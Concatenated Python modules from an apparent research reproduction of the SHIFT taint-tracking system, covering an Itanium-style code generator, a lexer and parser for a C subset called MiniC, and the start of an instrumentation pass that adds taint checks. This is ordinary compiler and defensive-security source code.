        if kind == "reg":
            return GR(where), lambda: None

        def finish() -> None:
            self._slot_addr(where)
            self.emit("st8", ins=(SCRATCH_ADDR, SCRATCH_A))

        return SCRATCH_A, finish

    # -- main ------------------------------------------------------------

    def generate(self) -> FunctionCode:
        """Produce the full prologue/body/epilogue instruction stream."""
        self._prologue()
        for instr in self.irf.body:
            self._lower(instr)
        self._epilogue()
        self._remove_redundant_branches()
        return FunctionCode(
            name=self.irf.name,
            items=self.items,
            frame_size=self.frame_size,
            makes_calls=self.makes_calls,
        )

    def _prologue(self) -> None:
        if self.frame_size:
            self.emit("adds", outs=(SP,), ins=(SP,), imm=-self.frame_size)
        if self.makes_calls:
            self.emit("mov.frombr", outs=(SCRATCH_A,), ins=(BR(0),))
            self._frame_addr(SCRATCH_ADDR, self.b0_offset)
            self.emit("st8", ins=(SCRATCH_ADDR, SCRATCH_A))
        for reg, offset in self.callee_save_offsets.items():
            self._frame_addr(SCRATCH_ADDR, offset)
            self.emit("st8.spill", ins=(SCRATCH_ADDR, GR(reg)))
        if self.preserves_unat:
            # ar.unat is callee-saved so callers' spill bits survive us
            # (and our own dead spill bits die with this frame).
            self.emit("mov.fromar", outs=(SCRATCH_A,), ins=(AR_UNAT,))
            self._frame_addr(SCRATCH_ADDR, self.unat_offset)
            self.emit("st8", ins=(SCRATCH_ADDR, SCRATCH_A))
        for i, vreg in enumerate(self.irf.param_vregs):
            if i >= NUM_ARG_REGS:
                raise CompileError(f"{self.irf.name}: too many parameters")
            try:
                kind, where = self.allocation.location(vreg)
            except KeyError:
                continue  # parameter never used
            if kind == "reg":
                self.emit("mov", outs=(GR(where),), ins=(GR(GR_FIRST_ARG + i),))
            else:
                self._slot_addr(where)
                self.emit("st8", ins=(SCRATCH_ADDR, GR(GR_FIRST_ARG + i)))

    def _epilogue(self) -> None:
        self.label(self._ret_label())
        if self.preserves_unat:
            self._frame_addr(SCRATCH_ADDR, self.unat_offset)
            self.emit("ld8", outs=(SCRATCH_A,), ins=(SCRATCH_ADDR,))
            self.emit("mov.toar", outs=(AR_UNAT,), ins=(SCRATCH_A,))
        for reg, offset in self.callee_save_offsets.items():
            self._frame_addr(SCRATCH_ADDR, offset)
            self.emit("ld8.fill", outs=(GR(reg),), ins=(SCRATCH_ADDR,))
        if self.makes_calls:
            self._frame_addr(SCRATCH_ADDR, self.b0_offset)
            self.emit("ld8", outs=(SCRATCH_A,), ins=(SCRATCH_ADDR,))
            self.emit("mov.tobr", outs=(BR(0),), ins=(SCRATCH_A,))
        if self.frame_size:
            self.emit("adds", outs=(SP,), ins=(SP,), imm=self.frame_size)
        self.emit("br.ret", ins=(BR(0),))

    def _ret_label(self) -> str:
        return f".Lret_{self.irf.name}"

    # -- IR lowering ---------------------------------------------------------

    def _lower(self, instr: IRInstr) -> None:
        handler = getattr(self, f"_lower_{instr.op}", None)
        if handler is None:
            raise CompileError(f"cannot lower IR op {instr.op}")
        handler(instr)

    def _lower_const(self, instr: IRInstr) -> None:
        dest, finish = self.write_result(instr.dst)
        self._load_imm(dest, instr.imm)
        finish()

    def _lower_symaddr(self, instr: IRInstr) -> None:
        dest, finish = self.write_result(instr.dst)
        self.emit("movl", outs=(dest,), imm=0, sym=instr.name)
        finish()

    def _lower_funcaddr(self, instr: IRInstr) -> None:
        dest, finish = self.write_result(instr.dst)
        self.emit("movl", outs=(dest,), imm=0, sym=f"&{instr.name}")
        finish()

    def _lower_frameaddr(self, instr: IRInstr) -> None:
        dest, finish = self.write_result(instr.dst)
        self._frame_addr(dest, instr.imm)
        finish()

    def _lower_mov(self, instr: IRInstr) -> None:
        dest, finish = self.write_result(instr.dst)
        if isinstance(instr.a, int):
            self._load_imm(dest, instr.a)
        else:
            src = self.read_operand(instr.a, SCRATCH_B)
            self.emit("mov", outs=(dest,), ins=(src,))
        finish()

    def _lower_bin(self, instr: IRInstr) -> None:
        op = _ALU_MAP[instr.sub_op]
        a = self.read_operand(instr.a, SCRATCH_A)
        dest, finish = self.write_result(instr.dst)
        if isinstance(instr.b, int) and instr.sub_op in _IMM_OK \
                and IMM14_MIN <= instr.b <= IMM14_MAX:
            if instr.sub_op == "add":
                self.emit("adds", outs=(dest,), ins=(a,), imm=instr.b)
            elif instr.sub_op == "sub":
                self.emit("adds", outs=(dest,), ins=(a,), imm=-instr.b)
            else:
                self.emit(op, outs=(dest,), ins=(a,), imm=instr.b)
        else:
            b = self.read_operand(instr.b, SCRATCH_B)
            self.emit(op, outs=(dest,), ins=(a, b))
        finish()

    def _lower_sext(self, instr: IRInstr) -> None:
        a = self.read_operand(instr.a, SCRATCH_A)
        dest, finish = self.write_result(instr.dst)
        op = {1: "sxt1", 2: "sxt2", 4: "sxt4"}[instr.size]
        self.emit(op, outs=(dest,), ins=(a,))
        finish()

    def _lower_load(self, instr: IRInstr) -> None:
        addr = self.read_operand(instr.a, SCRATCH_B)
        dest, finish = self.write_result(instr.dst)
        op = {1: "ld1", 2: "ld2", 4: "ld4", 8: "ld8"}[instr.size]
        self.emit(op, outs=(dest,), ins=(addr,))
        if instr.signed and instr.size < 8:
            sxt = {1: "sxt1", 2: "sxt2", 4: "sxt4"}[instr.size]
            self.emit(sxt, outs=(dest,), ins=(dest,))
        finish()

    def _lower_store(self, instr: IRInstr) -> None:
        addr = self.read_operand(instr.a, SCRATCH_A)
        value = self.read_operand(instr.b, SCRATCH_B)
        op = {1: "st1", 2: "st2", 4: "st4", 8: "st8"}[instr.size]
        self.emit(op, ins=(addr, value))

    def _emit_cmp(self, rel: str, a: Operand, b: Operand) -> None:
        reg_a = self.read_operand(a, SCRATCH_A)
        if isinstance(b, int) and IMM14_MIN <= b <= IMM14_MAX:
            self.emit(f"cmp.{rel}", outs=(PR(6), PR(7)), ins=(reg_a,), imm=b)
        else:
            reg_b = self.read_operand(b, SCRATCH_B)
            self.emit(f"cmp.{rel}", outs=(PR(6), PR(7)), ins=(reg_a, reg_b))

    def _lower_setrel(self, instr: IRInstr) -> None:
        self._emit_cmp(instr.rel, instr.a, instr.b)
        dest, finish = self.write_result(instr.dst)
        self.emit("mov", outs=(dest,), ins=(R0,))
        self.emit("adds", qp=6, outs=(dest,), ins=(R0,), imm=1)
        finish()

    def _lower_cbr(self, instr: IRInstr) -> None:
        self._emit_cmp(instr.rel, instr.a, instr.b)
        self.emit("br.cond", qp=6, target=instr.label)
        self.emit("br", target=instr.label2)

    def _lower_br(self, instr: IRInstr) -> None:
        self.emit("br", target=instr.label)

    def _lower_label(self, instr: IRInstr) -> None:
        self.label(instr.name)

    def _move_args(self, args: Tuple[Operand, ...]) -> None:
        if len(args) > NUM_ARG_REGS:
            raise CompileError("too many call arguments")
        for i, arg in enumerate(args):
            target = GR(GR_FIRST_ARG + i)
            if isinstance(arg, int):
                self._load_imm(target, arg)
            else:
                kind, where = self.allocation.location(arg)
                if kind == "reg":
                    self.emit("mov", outs=(target,), ins=(GR(where),))
                else:
                    self._slot_addr(where)
                    self.emit("ld8", outs=(target,), ins=(SCRATCH_ADDR,))

    def _store_return(self, dst: Optional[VReg]) -> None:
        if dst is None:
            return
        try:
            kind, where = self.allocation.location(dst)
        except KeyError:
            return  # result unused
        if kind == "reg":
            self.emit("mov", outs=(GR(where),), ins=(GR(GR_RET),))
        else:
            self._slot_addr(where)
            self.emit("st8", ins=(SCRATCH_ADDR, GR(GR_RET)))

    def _lower_call(self, instr: IRInstr) -> None:
        self._move_args(instr.args)
        self.emit("br.call", outs=(BR(0),), target=instr.name)
        self._store_return(instr.dst)

    def _lower_icall(self, instr: IRInstr) -> None:
        func = self.read_operand(instr.a, SCRATCH_A)
        # The move to a branch register is where policy L3 bites if the
        # function pointer is tainted.
        self.emit("mov.tobr", outs=(BR(6),), ins=(func,))
        self._move_args(instr.args)
        self.emit("br.call.ind", outs=(BR(0),), ins=(BR(6),))
        self._store_return(instr.dst)

    def _lower_ret(self, instr: IRInstr) -> None:
        if instr.a is not None:
            if isinstance(instr.a, int):
                self._load_imm(GR(GR_RET), instr.a)
            else:
                src = self.read_operand(instr.a, SCRATCH_A)
                if src.index != GR_RET:
                    self.emit("mov", outs=(GR(GR_RET),), ins=(src,))
        self.emit("br", target=self._ret_label())

    # -- cleanup ---------------------------------------------------------------

    def _remove_redundant_branches(self) -> None:
        """Drop unconditional branches that target the next label."""
        cleaned: List[Item] = []
        for i, item in enumerate(self.items):
            if (
                isinstance(item, Instruction)
                and item.op == "br"
                and item.qp == 0
                and item.target in self._labels_at(i)
            ):
                continue
            cleaned.append(item)
        self.items = cleaned

    def _labels_at(self, index: int) -> List[str]:
        """Labels naming the position immediately after item ``index``."""
        labels: List[str] = []
        for item in self.items[index + 1:]:
            if not isinstance(item, Label):
                break
            labels.append(item.name)
        return labels


def lower_function(irf: IRFunction) -> FunctionCode:
    """Allocate registers and generate machine code for one function."""
    return FunctionCodegen(irf).generate()
