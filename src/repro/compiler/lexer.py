"""Lexer for MiniC, the C subset the SHIFT-enabled compiler accepts.

MiniC stands in for the C sources the paper compiles with its modified
GCC.  It supports ``char``/``int``/``long``/``void``, pointers, arrays,
string/char literals, the usual operators and control flow, function
definitions, and ``native`` declarations for runtime-provided functions
(the analogue of calling into glibc).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List

from repro.compiler.errors import CompileError

KEYWORDS = {
    "char", "int", "long", "void", "if", "else", "while", "for",
    "return", "break", "continue", "native", "sizeof", "struct",
}

# Longest-match-first operator table.
OPERATORS = [
    "<<=", ">>=",
    "==", "!=", "<=", ">=", "&&", "||", "<<", ">>", "->",
    "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "++", "--",
    "+", "-", "*", "/", "%", "=", "<", ">", "!", "~", "&", "|", "^",
    "(", ")", "{", "}", "[", "]", ";", ",", ".",
]


@dataclass(frozen=True)
class Token:
    """One lexical token with its source position."""
    kind: str  # 'ident' | 'number' | 'string' | 'charlit' | 'op' | keyword | 'eof'
    value: object
    line: int
    column: int

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"Token({self.kind}, {self.value!r}, {self.line}:{self.column})"


_ESCAPES = {
    "n": "\n", "t": "\t", "r": "\r", "0": "\0", "\\": "\\",
    "'": "'", '"': '"', "b": "\b", "f": "\f",
}


def tokenize(source: str) -> List[Token]:
    """Convert MiniC source text into a token list ending with ``eof``."""
    tokens: List[Token] = []
    line, col = 1, 1
    i = 0
    n = len(source)

    def error(message: str) -> CompileError:
        return CompileError(message, line, col)

    while i < n:
        ch = source[i]
        if ch == "\n":
            i += 1
            line += 1
            col = 1
            continue
        if ch in " \t\r":
            i += 1
            col += 1
            continue
        if source.startswith("//", i):
            while i < n and source[i] != "\n":
                i += 1
            continue
        if source.startswith("/*", i):
            end = source.find("*/", i + 2)
            if end < 0:
                raise error("unterminated block comment")
            skipped = source[i:end + 2]
            line += skipped.count("\n")
            col = 1 if "\n" in skipped else col + len(skipped)
            i = end + 2
            continue
        if ch.isalpha() or ch == "_":
            start = i
            while i < n and (source[i].isalnum() or source[i] == "_"):
                i += 1
            word = source[start:i]
            kind = word if word in KEYWORDS else "ident"
            tokens.append(Token(kind, word, line, col))
            col += i - start
            continue
        if ch.isdigit():
            start = i
            if source.startswith("0x", i) or source.startswith("0X", i):
                i += 2
                while i < n and source[i] in "0123456789abcdefABCDEF":
                    i += 1
                value = int(source[start:i], 16)
            else:
                while i < n and source[i].isdigit():
                    i += 1
                value = int(source[start:i])
            tokens.append(Token("number", value, line, col))
            col += i - start
            continue
        if ch == '"':
            text, consumed = _scan_string(source, i, '"', error)
            tokens.append(Token("string", text, line, col))
            i += consumed
            col += consumed
            continue
        if ch == "'":
            text, consumed = _scan_string(source, i, "'", error)
            if len(text) != 1:
                raise error(f"character literal must be one character: {text!r}")
            tokens.append(Token("charlit", ord(text), line, col))
            i += consumed
            col += consumed
            continue
        for op in OPERATORS:
            if source.startswith(op, i):
                tokens.append(Token("op", op, line, col))
                i += len(op)
                col += len(op)
                break
        else:
            raise error(f"unexpected character {ch!r}")
    tokens.append(Token("eof", None, line, col))
    return tokens


def _scan_string(source: str, start: int, quote: str, error) -> tuple:
    """Scan a quoted literal starting at ``start``; returns (text, consumed)."""
    i = start + 1
    out: List[str] = []
    while i < len(source):
        ch = source[i]
        if ch == quote:
            return "".join(out), i - start + 1
        if ch == "\n":
            break
        if ch == "\\":
            if i + 1 >= len(source):
                break
            esc = source[i + 1]
            if esc == "x":
                out.append(chr(int(source[i + 2:i + 4], 16)))
                i += 4
                continue
            if esc not in _ESCAPES:
                raise error(f"unknown escape \\{esc}")
            out.append(_ESCAPES[esc])
            i += 2
            continue
        out.append(ch)
        i += 1
    raise error("unterminated literal")
