"""Recursive-descent parser for MiniC."""

from __future__ import annotations

from typing import List, Optional

from repro.compiler import ast_nodes as ast
from repro.compiler.ctypes_ import CHAR, CType, INT, VOID, array_of, pointer_to, struct_type
from repro.compiler.errors import CompileError
from repro.compiler.lexer import Token, tokenize

_TYPE_KEYWORDS = ("char", "int", "long", "void")

# Binary operator precedence (higher binds tighter).
_PRECEDENCE = {
    "||": 1,
    "&&": 2,
    "|": 3,
    "^": 4,
    "&": 5,
    "==": 6, "!=": 6,
    "<": 7, "<=": 7, ">": 7, ">=": 7,
    "<<": 8, ">>": 8,
    "+": 9, "-": 9,
    "*": 10, "/": 10, "%": 10,
}

_ASSIGN_OPS = {"=", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<=", ">>="}


class Parser:
    """Recursive-descent parser over the token stream."""
    def __init__(self, source: str) -> None:
        self.tokens = tokenize(source)
        self.pos = 0
        self.structs = {}  # tag -> CType (struct definitions seen so far)

    # -- token helpers ---------------------------------------------------

    @property
    def current(self) -> Token:
        """The token under the cursor."""
        return self.tokens[self.pos]

    def peek(self, offset: int = 1) -> Token:
        """Look ahead without consuming."""
        index = min(self.pos + offset, len(self.tokens) - 1)
        return self.tokens[index]

    def advance(self) -> Token:
        """Consume and return the current token."""
        token = self.current
        self.pos += 1
        return token

    def error(self, message: str) -> CompileError:
        """CompileError annotated with the current position."""
        token = self.current
        return CompileError(message + f" (got {token.kind} {token.value!r})", token.line, token.column)

    def expect_op(self, op: str) -> Token:
        """Consume a required operator or fail."""
        if self.current.kind == "op" and self.current.value == op:
            return self.advance()
        raise self.error(f"expected {op!r}")

    def match_op(self, *ops: str) -> Optional[str]:
        """Consume one of the given operators if present."""
        if self.current.kind == "op" and self.current.value in ops:
            return self.advance().value
        return None

    def at_op(self, op: str) -> bool:
        """True if the current token is the given operator."""
        return self.current.kind == "op" and self.current.value == op

    def expect_ident(self) -> str:
        """Consume a required identifier."""
        if self.current.kind != "ident":
            raise self.error("expected identifier")
        return self.advance().value

    # -- types ------------------------------------------------------------

    def at_type(self) -> bool:
        """True if a type name starts here."""
        if self.current.kind == "struct":
            return True
        return self.current.kind in _TYPE_KEYWORDS

    def parse_type(self) -> CType:
        """Parse a (possibly struct/pointer) type."""
        if self.current.kind == "struct":
            self.advance()
            tag = self.expect_ident()
            base = self.structs.get(tag)
            if base is None:
                raise self.error(f"unknown struct {tag!r}")
            while self.match_op("*"):
                base = pointer_to(base)
            return base
        kw = self.current.kind
        if kw not in _TYPE_KEYWORDS:
            raise self.error("expected type")
        self.advance()
        base = {"char": CHAR, "int": INT, "long": INT, "void": VOID}[kw]
        while self.match_op("*"):
            base = pointer_to(base)
        return base

    def _parse_struct_definition(self) -> None:
        """``struct Name { member-decls };`` at top level."""
        self.advance()  # struct
        tag = self.expect_ident()
        if tag in self.structs:
            raise self.error(f"redefinition of struct {tag}")
        self.structs[tag] = CType("struct", tag=tag)  # forward declaration
        self.expect_op("{")
        members = []
        while not self.at_op("}"):
            ctype = self.parse_type()
            name = self.expect_ident()
            if self.match_op("["):
                if self.current.kind != "number":
                    raise self.error("expected array length")
                length = self.advance().value
                self.expect_op("]")
                ctype = array_of(ctype, length)
            members.append((name, ctype))
            self.expect_op(";")
        self.expect_op("}")
        self.expect_op(";")
        # Fill in the forward declaration registered before the members
        # were parsed, so self-referential pointers (linked lists) see
        # the completed type.  object.__setattr__ is needed because
        # CType is a frozen dataclass; the placeholder's identity is
        # what the member pointers captured.
        placeholder = self.structs[tag]
        laid_out = struct_type(tag, members)
        object.__setattr__(placeholder, "fields", laid_out.fields)
        object.__setattr__(placeholder, "struct_size", laid_out.struct_size)

    # -- top level -----------------------------------------------------------

    def parse_unit(self) -> ast.TranslationUnit:
        """Parse a whole source file."""
        unit = ast.TranslationUnit()
        while self.current.kind != "eof":
            if self.current.kind == "native":
                self.advance()
                unit.functions.append(self._parse_function_header(native=True))
                continue
            if (self.current.kind == "struct"
                    and self.peek().kind == "ident"
                    and self.peek(2).kind == "op" and self.peek(2).value == "{"):
                self._parse_struct_definition()
                continue
            line = self.current.line
            ctype = self.parse_type()
            name = self.expect_ident()
            if self.at_op("("):
                unit.functions.append(self._parse_function_rest(ctype, name, line))
            else:
                unit.globals.append(self._parse_global_rest(ctype, name, line))
        return unit

    def _parse_function_header(self, native: bool) -> ast.FunctionDef:
        line = self.current.line
        ret = self.parse_type()
        name = self.expect_ident()
        self.expect_op("(")
        params = self._parse_params()
        self.expect_op(")")
        self.expect_op(";")
        return ast.FunctionDef(line=line, ret=ret, name=name, params=params,
                               body=None, is_native=native)

    def _parse_function_rest(self, ret: CType, name: str, line: int) -> ast.FunctionDef:
        self.expect_op("(")
        params = self._parse_params()
        self.expect_op(")")
        if self.match_op(";"):
            return ast.FunctionDef(line=line, ret=ret, name=name, params=params, body=None)
        body = self.parse_block()
        return ast.FunctionDef(line=line, ret=ret, name=name, params=params, body=body)

    def _parse_params(self) -> List[ast.Param]:
        params: List[ast.Param] = []
        if self.at_op(")"):
            return params
        if self.current.kind == "void" and self.peek().kind == "op" and self.peek().value == ")":
            self.advance()
            return params
        while True:
            line = self.current.line
            ctype = self.parse_type()
            name = self.expect_ident()
            if self.match_op("["):
                self.expect_op("]")
                ctype = pointer_to(ctype)
            params.append(ast.Param(line=line, ctype=ctype, name=name))
            if not self.match_op(","):
                return params

    def _parse_global_rest(self, ctype: CType, name: str, line: int) -> ast.GlobalDef:
        if self.match_op("["):
            if self.current.kind == "number":
                length = self.advance().value
            else:
                raise self.error("expected array length")
            self.expect_op("]")
            ctype = array_of(ctype, length)
        init = None
        if self.match_op("="):
            init = self._parse_global_init()
        self.expect_op(";")
        return ast.GlobalDef(line=line, ctype=ctype, name=name, init=init)

    def _parse_global_init(self) -> object:
        if self.current.kind == "string":
            return ast.StringLit(line=self.current.line, value=self.advance().value.encode("latin-1"))
        if self.match_op("{"):
            values: List[ast.NumberLit] = []
            while not self.at_op("}"):
                values.append(self._parse_const_number())
                if not self.match_op(","):
                    break
            self.expect_op("}")
            return values
        return self._parse_const_number()

    def _parse_const_number(self) -> ast.NumberLit:
        negative = bool(self.match_op("-"))
        if self.current.kind not in ("number", "charlit"):
            raise self.error("expected constant")
        token = self.advance()
        value = -token.value if negative else token.value
        return ast.NumberLit(line=token.line, value=value)

    # -- statements -----------------------------------------------------------

    def parse_block(self) -> ast.Block:
        """Parse a brace-delimited block."""
        line = self.current.line
        self.expect_op("{")
        statements: List[ast.Stmt] = []
        while not self.at_op("}"):
            statements.append(self.parse_statement())
        self.expect_op("}")
        return ast.Block(line=line, statements=statements)

    def parse_statement(self) -> ast.Stmt:
        """Parse one statement."""
        token = self.current
        if token.kind == "op" and token.value == "{":
            return self.parse_block()
        if self.at_type():
            return self._parse_decl()
        if token.kind == "if":
            return self._parse_if()
        if token.kind == "while":
            return self._parse_while()
        if token.kind == "for":
            return self._parse_for()
        if token.kind == "return":
            self.advance()
            value = None if self.at_op(";") else self.parse_expression()
            self.expect_op(";")
            return ast.Return(line=token.line, value=value)
        if token.kind == "break":
            self.advance()
            self.expect_op(";")
            return ast.Break(line=token.line)
        if token.kind == "continue":
            self.advance()
            self.expect_op(";")
            return ast.Continue(line=token.line)
        expr = self.parse_expression()
        self.expect_op(";")
        return ast.ExprStmt(line=token.line, expr=expr)

    def _parse_decl(self) -> ast.Stmt:
        line = self.current.line
        ctype = self.parse_type()
        name = self.expect_ident()
        if self.match_op("["):
            if self.current.kind != "number":
                raise self.error("expected array length")
            length = self.advance().value
            self.expect_op("]")
            ctype = array_of(ctype, length)
        init = None
        if self.match_op("="):
            init = self.parse_expression()
        self.expect_op(";")
        return ast.DeclStmt(line=line, ctype=ctype, name=name, init=init)

    def _parse_if(self) -> ast.If:
        line = self.advance().line
        self.expect_op("(")
        cond = self.parse_expression()
        self.expect_op(")")
        then = self.parse_statement()
        otherwise = None
        if self.current.kind == "else":
            self.advance()
            otherwise = self.parse_statement()
        return ast.If(line=line, cond=cond, then=then, otherwise=otherwise)

    def _parse_while(self) -> ast.While:
        line = self.advance().line
        self.expect_op("(")
        cond = self.parse_expression()
        self.expect_op(")")
        body = self.parse_statement()
        return ast.While(line=line, cond=cond, body=body)

    def _parse_for(self) -> ast.For:
        line = self.advance().line
        self.expect_op("(")
        init: Optional[ast.Stmt] = None
        if not self.at_op(";"):
            if self.at_type():
                init = self._parse_decl()
            else:
                expr = self.parse_expression()
                self.expect_op(";")
                init = ast.ExprStmt(line=line, expr=expr)
        else:
            self.expect_op(";")
        cond = None if self.at_op(";") else self.parse_expression()
        self.expect_op(";")
        step = None if self.at_op(")") else self.parse_expression()
        self.expect_op(")")
        body = self.parse_statement()
        return ast.For(line=line, init=init, cond=cond, step=step, body=body)

    # -- expressions -------------------------------------------------------------

    def parse_expression(self) -> ast.Expr:
        """Parse a full expression (assignment level)."""
        return self._parse_assignment()

    def _parse_assignment(self) -> ast.Expr:
        left = self._parse_binary(1)
        if self.current.kind == "op" and self.current.value in _ASSIGN_OPS:
            op = self.advance().value
            value = self._parse_assignment()
            return ast.Assign(line=left.line, op=op, target=left, value=value)
        return left

    def _parse_binary(self, min_prec: int) -> ast.Expr:
        left = self._parse_unary()
        while True:
            token = self.current
            if token.kind != "op":
                return left
            prec = _PRECEDENCE.get(token.value)
            if prec is None or prec < min_prec:
                return left
            op = self.advance().value
            right = self._parse_binary(prec + 1)
            left = ast.Binary(line=token.line, op=op, left=left, right=right)

    def _parse_unary(self) -> ast.Expr:
        token = self.current
        if token.kind == "op" and token.value in ("-", "~", "!", "*", "&"):
            self.advance()
            operand = self._parse_unary()
            return ast.Unary(line=token.line, op=token.value, operand=operand)
        if token.kind == "op" and token.value in ("++", "--"):
            self.advance()
            target = self._parse_unary()
            return ast.IncDec(line=token.line, op=token.value, prefix=True, target=target)
        if token.kind == "sizeof":
            self.advance()
            self.expect_op("(")
            ctype = self.parse_type()
            self.expect_op(")")
            return ast.SizeOf(line=token.line, target_type=ctype)
        if token.kind == "op" and token.value == "(" \
                and (self.peek().kind in _TYPE_KEYWORDS or self.peek().kind == "struct"):
            self.advance()
            ctype = self.parse_type()
            self.expect_op(")")
            operand = self._parse_unary()
            return ast.Cast(line=token.line, target_type=ctype, operand=operand)
        return self._parse_postfix()

    def _parse_postfix(self) -> ast.Expr:
        expr = self._parse_primary()
        while True:
            if self.at_op("["):
                self.advance()
                index = self.parse_expression()
                self.expect_op("]")
                expr = ast.Index(line=expr.line, base=expr, index=index)
                continue
            if self.at_op("(") and isinstance(expr, ast.Ident):
                self.advance()
                args = self._parse_args()
                expr = ast.Call(line=expr.line, name=expr.name, args=args)
                continue
            if self.current.kind == "op" and self.current.value in (".", "->"):
                arrow = self.advance().value == "->"
                name = self.expect_ident()
                expr = ast.Member(line=expr.line, base=expr, name=name, arrow=arrow)
                continue
            if self.current.kind == "op" and self.current.value in ("++", "--"):
                op = self.advance().value
                expr = ast.IncDec(line=expr.line, op=op, prefix=False, target=expr)
                continue
            return expr

    def _parse_args(self) -> List[ast.Expr]:
        args: List[ast.Expr] = []
        if self.match_op(")"):
            return args
        while True:
            args.append(self.parse_expression())
            if self.match_op(")"):
                return args
            self.expect_op(",")

    def _parse_primary(self) -> ast.Expr:
        token = self.current
        if token.kind in ("number", "charlit"):
            self.advance()
            return ast.NumberLit(line=token.line, value=token.value)
        if token.kind == "string":
            self.advance()
            return ast.StringLit(line=token.line, value=token.value.encode("latin-1"))
        if token.kind == "ident":
            self.advance()
            return ast.Ident(line=token.line, name=token.value)
        if token.kind == "op" and token.value == "(":
            self.advance()
            expr = self.parse_expression()
            self.expect_op(")")
            return expr
        raise self.error("expected expression")


def parse(source: str) -> ast.TranslationUnit:
    """Parse MiniC source text into a translation unit."""
    return Parser(source).parse_unit()
