"""The SHIFT instrumentation pass (paper sections 3-4).

Runs after register allocation and code generation, the same pipeline
point as the paper's GCC pass (between ``pass_leaf_regs`` and
``pass_sched2``).  For every *user* load it appends code that consults
the taint bitmap and conditionally sets the destination's NaT bit; for
every user store it updates the bitmap from the source's NaT bit (and
rewrites ``st8`` to ``st8.spill`` so tainted values can be stored); for
every user compare it inserts *relaxation* code, because an Itanium
compare with a NaT operand clears both predicates.

Tag addressing follows the paper's Figure 4: the region number is moved
down and combined with the implemented address bits (``linearise``),
then shifted by the granularity.  Modelling choice (documented in
DESIGN.md): byte-level tracking keeps one tag *bit* per byte (an N-byte
access manipulates an N-bit mask with a 16-bit read-modify-write), while
word-level tracking keeps one tag *byte* per 8-byte word (single ``ld1``
test, single ``st1`` update).  Both bitmaps occupy 1/8th of data memory;
byte-level needs more instructions per access, which is exactly the
cost asymmetry the paper reports.

The three proposed architectural enhancements (section 6.3) are
compile-time switches:

* ``enh_set_clear`` uses ``settag``/``cleartag`` instead of faking a NaT
  with a speculative load from an invalid address;
* ``enh_nat_cmp`` replaces compares with the NaT-aware ``tcmp.*`` forms,
  removing relaxation entirely.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from typing import List, Optional, Union

from repro.compiler.codegen import FunctionCode
from repro.isa.instruction import (
    Instruction,
    Label,
    ROLE_NATGEN,
    ROLE_RELAX,
    ROLE_TAG_COMPUTE,
    ROLE_TAG_MEM,
    ROLE_TAINT_SET,
)
from repro.isa.operands import GR, GR_NAT_SOURCE, PR, R0, Reg, SP
from repro.mem.address import IMPL_BITS, IMPL_MASK

#: An address with an unimplemented bit set: speculative loads from it
#: defer the exception, manufacturing a NaT-tagged zero (paper Fig. 5).
INVALID_ADDR = 1 << (IMPL_BITS + 4)

GRANULARITY_BYTE = 1
GRANULARITY_WORD = 8

# Instrumentation-reserved registers (never used by the code generator
# for user values): r2/r3 linear/tag addresses, r9-r11 tag scratch.
T_LIN = GR(2)
T_ADDR = GR(3)
T_BITS = GR(9)
T_OFF = GR(10)
T_MASK = GR(11)
NAT_SOURCE = GR(GR_NAT_SOURCE)

# Instrumentation predicates (codegen only uses p6/p7).
P_TAINT = 8
P_CLEAN = 9
P_TAINT2 = 10
P_CLEAN2 = 11
P_ADDR = 12  # address register tainted (permissive pointer policy)
P_ADDR_CLEAN = 13

#: Red-zone offset used by the pointer-laundering fix blocks.
ADDR_FIX_SLOT = -32

#: Red-zone frame offsets used by NaT-clearing spills (transient use
#: below sp; safe because the sequences contain no calls).
RELAX_SLOT_A = -16
RELAX_SLOT_B = -24

_PLAIN_LOADS = {"ld1": 1, "ld2": 2, "ld4": 4, "ld8": 8}
_PLAIN_STORES = {"st1": 1, "st2": 2, "st4": 4, "st8": 8}

Item = Union[Label, Instruction]


@dataclass(frozen=True)
class ShiftOptions:
    """Compile-time configuration of the instrumentation pass."""

    mode: str = "shift"  # 'none' | 'shift' | 'lift'
    granularity: int = GRANULARITY_BYTE
    enh_set_clear: bool = False  # architectural enhancement 1
    enh_nat_cmp: bool = False  # architectural enhancement 2
    relax_compares: bool = True  # ablation knob
    #: Where the NaT-source register is manufactured (paper 4.4: the
    #: authors found per-function generation 3X cheaper than per-use and
    #: keeping a global source cheaper still): 'use' | 'function' |
    #: 'global' (the loader's _start generates r31 once).
    natgen: str = "function"
    #: Ablation: model an x86-style flat tag translation (mask + shift)
    #: instead of Itanium's region/unimplemented-bits combine, which the
    #: paper blames for computation dominating the overhead (6.4).
    fast_tag_translation: bool = False
    #: Optimisation (paper 4.4 future work): run a static
    #: possibly-tainted analysis and emit relaxation only for compares
    #: whose operands may actually carry taint (loop counters etc. are
    #: provably clean and need nothing).
    prune_clean_compares: bool = False
    #: 'strict': a tainted pointer faults (policies L1/L2 fire) — the
    #: default for protected applications.  'permissive': memory ops are
    #: guarded with relaxing code (paper 3.2.2/4.1) that launders the
    #: address NaT for legitimate table lookups and propagates the
    #: pointer's taint to the loaded value — used for the SPEC runs,
    #: where input-indexed tables are ubiquitous.
    pointer_policy: str = "strict"
    #: Guest heap ceiling in bytes for ``Machine.heap_alloc``; ``None``
    #: uses the machine's default cap (the guard always exists so a
    #: runaway guest malloc loop cannot exhaust *host* memory).
    heap_limit: Optional[int] = None

    def __post_init__(self) -> None:
        if self.mode not in ("none", "shift", "lift"):
            raise ValueError(f"unknown instrumentation mode {self.mode!r}")
        if self.granularity not in (GRANULARITY_BYTE, GRANULARITY_WORD):
            raise ValueError("granularity must be 1 (byte) or 8 (word)")
        if self.pointer_policy not in ("strict", "permissive"):
            raise ValueError(f"unknown pointer policy {self.pointer_policy!r}")
        if self.natgen not in ("use", "function", "global"):
            raise ValueError(f"unknown natgen granularity {self.natgen!r}")
        if self.heap_limit is not None and self.heap_limit <= 0:
            raise ValueError("heap_limit must be positive when set")

    @property
    def label(self) -> str:
        """Short display name (e.g. 'shift-byte-set/clear')."""
        if self.mode == "none":
            return "baseline"
        if self.mode == "lift":
            return "lift"
        grain = "byte" if self.granularity == GRANULARITY_BYTE else "word"
        enh = ""
        if self.enh_set_clear and self.enh_nat_cmp:
            enh = "-both"
        elif self.enh_set_clear:
            enh = "-set/clear"
        elif self.enh_nat_cmp:
            enh = "-natcmp"
        return f"shift-{grain}{enh}"


